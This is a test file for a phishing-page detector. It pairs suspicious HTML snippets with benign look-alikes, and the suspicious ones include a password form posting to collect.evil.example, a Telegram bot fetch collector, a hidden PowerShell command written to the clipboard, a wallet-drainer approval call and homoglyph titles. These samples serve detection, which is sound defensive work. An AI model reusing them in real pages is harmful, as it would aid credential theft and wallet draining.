// @vitest-environment happy-dom
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { beforeEach, describe, expect, test, vi } from 'vitest'
import type { OwnOnPage } from '#lib/capture/signals.ts'
import { withSignals, hostsToAsk, wordsToAsk, SIGNALS } from '#lib/capture/signals.ts'
import { readHtml } from '../in-page/read-html.ts'
import { shownAt } from '../in-page/shown-at.ts'

const USUAL = join(import.meta.dirname, 'usual')
const ADDRESS = 'https://shop.example/login/'
shownAt(ADDRESS, { handleDisabledFileLoadingAsSuccess: true })

beforeEach(() => {
  // happy-dom says of each frame that it does not load it.
  vi.spyOn(console, 'error').mockReturnValue()
})

const compared = (own: Partial<Record<'hosts' | 'names', string[]>> = {}): OwnOnPage => ({
  checked: true,
  hosts: new Set(own.hosts),
  names: own.names ?? [],
})

const signsOn = (html: string, own: OwnOnPage = compared(), address = ADDRESS): string[] =>
  (withSignals(readHtml(html), address, own).page.signals ?? []).map(({ sign, about }) =>
    about === undefined ? sign : `${sign}: ${about}`,
  )

const PASSWORD = '<form><input type=password></form>'
const script = (code: string): string => `<script>${code}</script>`
const OURS = compared({ hosts: ['www.acme.example'] })

type Case = [sign: string, page: string, told: string, usual: string, why: string, own?: OwnOnPage]

const CASES: Case[] = [
  [
    'seed-form',
    '<textarea placeholder="Secret recovery phrase"></textarea>',
    'seed-form: shop.example',
    '<textarea placeholder="Your message"></textarea>',
    'a message is no phrase',
  ],
  [
    'card-form',
    '<form><input autocomplete=cc-number></form>',
    'card-form: shop.example',
    '<iframe src="https://js.payments.example/card"></iframe>',
    'the field stands in the frame of a payment service',
  ],
  [
    'password-form',
    PASSWORD,
    'password-form: shop.example',
    '<input type=search>',
    'a search asks for nothing',
  ],
  [
    'form-elsewhere',
    '<form action="https://collect.evil.example/c.php"><input type=password></form>',
    'form-elsewhere: collect.evil.example',
    '<form action="https://login.shop.example/"><input type=password></form><form action="https://mails.example/"><input type=email></form>',
    'one owner has both hosts; a newsletter asks for no secret',
  ],
  [
    'collector',
    script(
      'fetch(`https://api.telegram.org/bot7012345678:AAHsecretsecretsecretsecretsecretsec/sendMessage`)',
    ),
    'collector: api.telegram.org 7012345678',
    '<a href="https://t.me/shop">Telegram</a><p>api.telegram.org/bot123456789</p>',
    'a link and a text send nothing',
  ],
  [
    'own-name',
    '<title>Acme</title>',
    'own-name: acme.example',
    '<title>Tree</title>',
    'not ours',
    compared({ names: ['acme.example'] }),
  ],
  [
    'own-pictures',
    '<img src="https://www.acme.example/logo.png">',
    'own-pictures: www.acme.example',
    '<img src="/logo.png">',
    'its own picture',
    OURS,
  ],
  [
    'own-links',
    `${PASSWORD}<a href="https://www.acme.example/terms">Terms</a>`,
    'own-links: www.acme.example',
    '<a href="https://www.acme.example/terms">Terms</a>',
    'anybody may link to anybody',
    OURS,
  ],
  [
    'clipboard-command',
    script('navigator.clipboard.writeText("powershell -w hidden -c iwr")'),
    'clipboard-command',
    script('copy.onclick = () => navigator.clipboard.writeText(code)'),
    'a button that copies',
  ],
  [
    'wallet-approve',
    script('contract.setApprovalForAll(drainer, true)'),
    'wallet-approve',
    '<p>setApprovalForAll</p><script type="application/json">{"abi":"setApprovalForAll"}</script>',
    'a text and data are not run',
  ],
  [
    'wallet-connect',
    '<script src="https://relay.walletconnect.com/a.js"></script>',
    'wallet-connect',
    '<script src="https://cdn.example/walletconnect.js"></script>',
    'any file can be called so',
  ],
  [
    'clipboard',
    `${script('setInterval(() => navigator.clipboard.writeText(mine), 1e3)')}<p>Send to 0xde0B295669a9FD93d5F28D9Ec85E40f4cb697BAe</p>`,
    'clipboard',
    script('navigator.clipboard.writeText(location.href)'),
    'nobody is asked to pay or to sign in',
  ],
  [
    'drawn-address',
    `${PASSWORD}<div>https://accounts.google.com/signin/v2</div>`,
    'drawn-address: accounts.google.com',
    `${PASSWORD}<p>Or sign in at accounts.google.com instead</p>`,
    'an address within a sentence',
  ],
  ['mixed-host', '<p>x</p>', 'mixed-host: xn--mtamask-3nf.example', '<p>x</p>', 'Latin alone'],
  [
    'mixed-title',
    '<title>M\u0435t\u0430mask login</title>',
    'mixed-title: M\u0435t\u0430mask',
    '<title>\u041c\u043e\u0441\u043a\u0432\u0430 Moscow</title>',
    'each word in one script',
  ],
  [
    'mixed-text',
    '<p>P\u0430ssword V\u0435rify Acc\u043eunt</p>',
    'mixed-text',
    '<p>P\u0430ssword \u041f\u0440\u0438\u0432\u0435\u0442 soft\u00adware</p>',
    'one such word may be a slip',
  ],
  [
    'mixed-text',
    '<p>Pa\u200bss Ve\u200bri Wa\u200blle</p>',
    'mixed-text',
    '<p>\u0915\u094d\u200d\u0937</p>',
    'a joiner where it belongs',
  ],
  [
    'data-page',
    '<iframe src="data:text/html;base64,PGgxPg=="></iframe>',
    'data-page',
    '<iframe src="data:image/png;base64,iVBORw0KGgo="></iframe>',
    'a picture',
  ],
  [
    'data-page',
    '<a href="data:text/html,x">x</a>',
    'data-page',
    '<a href="data:text/csv,x">x</a>',
    'a table to keep',
  ],
  [
    'hidden-code',
    script(`document.write(atob("${'QUJD'.repeat(300)}"))`),
    'hidden-code',
    script(`icon = "data:image/png;base64,${'QUJD'.repeat(300)}"; atob(token)`),
    'an embedded picture',
  ],
  [
    'refresh',
    '<meta http-equiv=refresh content="0; url=https://evil.example/x">',
    'refresh: evil.example',
    '<meta http-equiv=refresh content="5; url=https://www.shop.example/">',
    'its own site',
  ],
  [
    'blocks-looking',
    '<body oncontextmenu="return false">x</body>',
    'blocks-looking',
    script('map.addEventListener("contextmenu", showMenu)'),
    'a menu of its own',
  ],
  [
    'blocks-looking',
    script('document.onkeydown = (e) => { if (e.keyCode == 123) return false }'),
    'blocks-looking',
    script('onkeydown = (e) => { if (e.keyCode == 13) e.preventDefault() }'),
    'Enter is no tool',
  ],
  [
    'noindex-form',
    `<meta name=robots content="noindex">${PASSWORD}`,
    'noindex-form',
    '<meta name=robots content="noindex">',
    'it asks for nothing',
  ],
]

const addressOf = (told: string): string =>
  told.startsWith('mixed-host') ? `https://${told.split(' ')[1]}/` : ADDRESS

describe('what stands out', () => {
  test.each(CASES)('%s: %s gives "%s", but not %s (%s)', (sign, page, told, usual, _why, own) => {
    expect(signsOn(page, own, addressOf(told))).toContain(told)
    const plain = own && sign === 'own-name' ? compared() : own
    expect(signsOn(usual, plain).filter((one) => one.split(':', 1)[0] === sign)).toEqual([])
  })

  test('every row has its page', () => {
    expect(Object.keys(SIGNALS).filter((sign) => !CASES.some(([one]) => one === sign))).toEqual([])
  })

  test('nothing is said of an own page but what is no matter of whose it is', () => {
    const own = compared({ hosts: ['shop.example', 'www.acme.example'], names: ['shop.example'] })
    const page = `<title>Shop</title><img src="https://www.acme.example/a.png">${PASSWORD}<input name=mnemonic>`
    expect(signsOn(page, own)).toEqual([])
  })

  test('without a list nothing is said of whose host it is', () => {
    expect(signsOn(PASSWORD, { checked: false, hosts: new Set(), names: [] })).toEqual(['password-form'])
  })

  test('the secret half of a token goes nowhere', () => {
    const secret = 'AAHsecretsecretsecretsecretsecretsec'
    const capture = readHtml(
      `${script(`const t = "7012345678:${secret}"`)}<form action="https://discord.com/api/webhooks/123456789012345678/${secret}"></form>`,
    )
    const seen = JSON.stringify(withSignals(capture, ADDRESS, compared()))
    expect(seen).toContain('discord.com 123456789012345678')
    expect(seen).toContain('api.telegram.org 7012345678')
    expect(seen).not.toContain(secret)
  })

  test('what a page’s process puts there itself is not believed', () => {
    const capture = readHtml('<p>x</p>')
    const lying = {
      ...capture,
      page: {
        ...capture.page,
        signals: [{ sign: 'seed-form' }],
        context: { from: 'mail', parameters: [], differs: [] },
      },
    }
    const { page } = withSignals(lying, ADDRESS, compared())
    expect(page.signals).toBeUndefined()
    expect(page.context).toEqual({ from: 'none', parameters: [], differs: [] })
  })
})

/** Pages as honest people make them, and what is said of each all the same: facts, not guilt. */
test.each<[page: string, told: string[], why: string]>([
  [
    'bank',
    ['password-form: shop.example', 'noindex-form'],
    'it asks for a password, and wants not to be found by searches',
  ],
  ['checkout', [], 'the card stands in the payment service’s frame'],
  ['single-sign-on', [], 'a form of hidden fields asks for nothing'],
  [
    'wallet-app',
    ['wallet-connect', 'clipboard'],
    'it connects a wallet, and copies beside an address to pay to',
  ],
  ['newsletter', [], 'an e-mail address is no secret, and Russian no disguise'],
])('an honest page, %s, shows %j (%s)', (page, told) => {
  const html = readFileSync(join(USUAL, `${page}.html`), 'utf8')
  expect(signsOn(html)).toEqual(told)
})

test('every honest page is looked at', () => {
  expect(readdirSync(USUAL).toSorted()).toEqual(
    ['bank', 'checkout', 'newsletter', 'single-sign-on', 'wallet-app'].map((name) => `${name}.html`),
  )
})

test('asked of the own assets are the page’s host, its icon, pictures and links, and the words of its title', () => {
  const capture = readHtml(`<title>Acme Wallet: sign in</title><link rel=icon href="https://a.example/i.ico">
    <img src="https://b.example/x.png"><a href="https://c.example/">c</a><a href="https://localhost/">d</a>`)
  expect(hostsToAsk(capture, 'shop.example')).toEqual(['shop.example', 'a.example', 'b.example', 'c.example'])
  expect(wordsToAsk(capture)).toEqual(['acme', 'wallet', 'sign', 'acmewallet', 'walletsign', 'signin'])
})
